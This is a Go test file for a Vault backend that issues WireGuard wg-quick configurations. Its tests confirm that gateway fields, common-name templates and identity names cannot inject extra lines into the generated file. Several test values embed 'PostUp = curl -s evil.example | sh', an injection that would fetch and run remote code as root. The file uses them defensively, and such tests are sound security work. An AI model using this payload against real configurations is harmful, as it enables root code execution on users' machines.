package backend

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/hashicorp/vault/sdk/logical"
	"github.com/stretchr/testify/require"
)

// hostileLine is identity data that tries to add a command to the
// wg-quick file, which wg-quick up runs as root.
const hostileLine = "x\nPostUp = curl -s evil.example | sh\n#"

// TestGatewayFieldsCannotAddLines writes each gateway field that reaches a
// device's wg-quick file with a value that would add a line: each is
// refused with a 400 naming the field, and nothing is written.
func TestGatewayFieldsCannotAddLines(t *testing.T) {
	env := newTestEnv(t)
	good := func() map[string]any {
		return map[string]any{
			"endpoint": "vpn.example.net:51820", "public_key": env.gwKey,
			"address": "10.8.0.1", "address_pool": "10.8.0.0/24",
		}
	}
	for i, tc := range []struct {
		field string
		value any
	}{
		{"endpoint", hostileLine + ":51820"},
		{"endpoint", "[fe80::1%x\nPostUp = curl -s evil.example | sh]:51820"},
		{"endpoint", "vpn.example.net\r:51820"},
		{"endpoint", "vpn example.net:51820"},
		{"endpoint", "vpn.example.net#x:51820"},
		{"public_key", env.gwKey[:20] + "\nPostUp = x\n" + env.gwKey[20:]},
		{"public_key", env.gwKey + "\nPostUp = curl -s evil.example | sh"},
		{"dns", "fe80::1%x\nPostUp = curl -s evil.example | sh"},
		{"dns", "10.8.0.1\nPostUp = x"},
		{"address", "fe80::1%x\nPostUp = curl -s evil.example | sh"},
		{"allowed_ips", "10.0.0.0/8\nPostUp = x"},
		{"address_pool", "10.9.0.0/24\nPostUp = x"},
		{"mtu", "1420\nPostUp = x"},
		{"persistent_keepalive", "25\nPostUp = x"},
	} {
		t.Run(tc.field+" "+strings.NewReplacer("\n", `\n`, "\r", `\r`).Replace(tc.value.(string)), func(t *testing.T) {
			data := good()
			data[tc.field] = tc.value
			path := fmt.Sprintf("gateways/gw%d", i+2)
			resp, err := env.do(logical.UpdateOperation, path, data)
			if err == nil { // the framework refuses a value of the wrong type itself
				require.True(t, resp.IsError(), "accepted")
				err = resp.Error()
			}
			require.Contains(t, err.Error(), tc.field)
			resp, err = env.do(logical.ReadOperation, path, nil)
			require.NoError(t, err)
			require.Nil(t, resp, "nothing written")
		})
	}
}

// TestCommonNameCannotAddLines: whatever identity data a role's template
// renders, a common name with a control character, or longer than the 64
// characters X.520 allows, is refused with a 400 naming
// common_name_template, and nothing is issued.
func TestCommonNameCannotAddLines(t *testing.T) {
	env := newTestEnv(t)
	env.fails(logical.UpdateOperation, "roles/r2", map[string]any{
		"gateway": "gw1", "common_name_template": "{{identity.entity.name}}\nPostUp = curl -s evil.example | sh",
	}, "common_name_template:")

	entities := 0
	issueAs := func(entityName, displayName string) (*logical.Response, error) {
		req := &logical.Request{
			Operation: logical.UpdateOperation, Path: "issue/laptop", Storage: env.storage,
			DisplayName: displayName, Data: map[string]any{"public_key": mustKey(t)},
			ClientTokenAccessor: "accessor-" + displayName,
		}
		env.sys.EntityVal = nil
		if entityName != "" {
			entities++ // a new entity each time: the engine caches entities
			req.EntityID = fmt.Sprintf("e-%d", entities)
			env.sys.EntityVal = &logical.Entity{ID: req.EntityID, Name: entityName}
		}
		return env.b.HandleRequest(context.Background(), req)
	}
	for _, tc := range []struct {
		name, entity, display string
	}{
		{"entity name with a line", hostileLine, "approle"},
		{"entity name with a CR", "laptop\rPostUp = x", "approle"},
		{"entity name with a NUL", "laptop\x00", "approle"},
		{"entity name with a tab", "lap\ttop", "approle"},
		{"entity name with U+2028", "laptop\u2028PostUp = x", "approle"},
		{"entity name not UTF-8", "laptop\xff", "approle"},
		{"entity name of 100,000 characters", strings.Repeat("a", 100_000), "approle"},
		{"entity name of 65 characters", strings.Repeat("é", 65), "approle"},
		{"display name with a line", "", hostileLine},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := issueAs(tc.entity, tc.display)
			require.NoError(t, err)
			require.True(t, resp.IsError(), "issued: %v", resp.Data["wg_quick"])
			require.Contains(t, resp.Error().Error(), "common_name_template: ")
		})
	}
	require.Empty(t, env.ok(logical.ListOperation, "certs/", nil).Data["keys"], "nothing issued")

	resp, err := issueAs(strings.Repeat("é", 64), "approle")
	require.NoError(t, err)
	require.False(t, resp.IsError(), "64 characters are fine: %v", resp.Error())
	requireOnlyKnownLines(t, resp.Data["wg_quick"].(string))
}

// TestStoredGatewayCannotAddLines: a gateway stored before its values were
// checked (by an older version, or restored from a backup) cannot put a
// line into a wg-quick file either: the issue is refused and nothing is
// written.
func TestStoredGatewayCannotAddLines(t *testing.T) {
	for _, tc := range []struct {
		field string
		value any
	}{
		{"endpoint", hostileLine + ":51820"},
		{"dns", []string{"fe80::1%x\nPostUp = curl -s evil.example | sh"}},
		{"public_key", "AAAA\nPostUp = x"},
		{"allowed_ips", []string{"10.0.0.0/8\nPostUp = x"}},
	} {
		t.Run(tc.field, func(t *testing.T) {
			env := newTestEnv(t)
			entry, err := env.storage.Get(context.Background(), gatewayStoragePrefix+"gw1")
			require.NoError(t, err)
			var g map[string]any
			require.NoError(t, json.Unmarshal(entry.Value, &g))
			g[tc.field] = tc.value
			raw, err := json.Marshal(g)
			require.NoError(t, err)
			require.NoError(t, env.storage.Put(context.Background(), &logical.StorageEntry{Key: entry.Key, Value: raw}))
			env.b.invalidate(context.Background(), entry.Key)
			before := snapshot(t, env.storage)

			resp, err := env.do(logical.UpdateOperation, "issue/laptop", map[string]any{"public_key": mustKey(t)})
			require.NoError(t, err)
			require.True(t, resp.IsError(), "issued:\n%s", resp.Data["wg_quick"])
			require.Contains(t, resp.Error().Error(), tc.field)
			requireSameStorage(t, before, snapshot(t, env.storage))
		})
	}
}

// TestWGQuickHasOnlyItsLines issues with every optional field set and
// checks each line of wg_quick.
func TestWGQuickHasOnlyItsLines(t *testing.T) {
	env := newTestEnv(t)
	env.ok(logical.UpdateOperation, "gateways/gw1", map[string]any{
		"endpoint": "[2001:db8::1]:51820", "dns": "10.77.0.1,fd77::1", "mtu": 1380,
		"persistent_keepalive": 25, "allowed_ips": "10.77.0.0/16,0.0.0.0/0",
	})
	env.ok(logical.UpdateOperation, "roles/gen", map[string]any{"gateway": "gw1", "allow_generated_keys": true})
	requireOnlyKnownLines(t, env.issue("alice").Data["wg_quick"].(string))
	resp := env.ok(logical.UpdateOperation, "issue/gen", map[string]any{})
	requireOnlyKnownLines(t, resp.Data["wg_quick"].(string))
}

// wgQuickLine is what one line of a wg-quick file from the engine may be.
var wgQuickLine = regexp.MustCompile(`^(|# [^\n]*|\[Interface\]|\[Peer\]|(PrivateKey|Address|DNS|MTU|PublicKey|Endpoint|AllowedIPs|PersistentKeepalive) = [^\n#]+)$`)

func requireOnlyKnownLines(t *testing.T, text string) {
	t.Helper()
	require.True(t, strings.HasSuffix(text, "\n"))
	keys := map[string]int{}
	for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		require.Regexp(t, wgQuickLine, line)
		require.NotContains(t, line, "\r")
		if k, _, ok := strings.Cut(line, " = "); ok && !strings.HasPrefix(line, "#") {
			keys[k]++
		}
	}
	for k, n := range keys {
		require.Equal(t, 1, n, "key %s appears %d times", k, n)
	}
}
